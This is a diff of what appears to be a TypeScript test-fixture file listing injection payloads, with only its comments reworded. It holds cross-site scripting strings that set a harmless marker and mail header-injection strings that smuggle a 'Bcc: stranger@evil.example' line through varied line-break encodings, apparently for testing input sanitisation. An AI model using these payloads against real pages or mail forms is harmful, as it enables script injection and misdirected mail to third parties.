@@ -1,8 +1,8 @@
-// What attackers type into fields, for whatever shows or mails it later: 60 for pages, 40 for mails and spreadsheets.
+// Injection payloads for whatever shows or mails input later: 60 for pages, 40 for mails and spreadsheets.
 
 const SCRIPT = 'window.__hit=1';
 
-/** Each would set `window.__hit` where a page takes it for markup, an address, a template or code. */
+/** Each would set `window.__hit` where a page interprets it as markup, a URL, a template or code. */
 export const PAGE_PAYLOADS: readonly string[] = [
   `<script>${SCRIPT}</script>`,
   `<SCRIPT SRC=data:text/javascript,${SCRIPT}></SCRIPT>`,
@@ -51,7 +51,7 @@ export const PAGE_PAYLOADS: readonly string[] = [
   `＜script＞${SCRIPT}＜/script＞`,
 ];
 
-/** What would be another header, another recipient, a live tag in a mail, or a formula in a spreadsheet. */
+/** Attempts at another header, another recipient, a live tag in a mail, or a formula in a spreadsheet. */
 export const MAIL_PAYLOADS: readonly string[] = [
   ...['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '%0d%0a', '\\r\\n', '\u0000\r\n', '=0D=0A'].map(
     (end) => `Ada${end}Bcc: stranger@evil.example`,
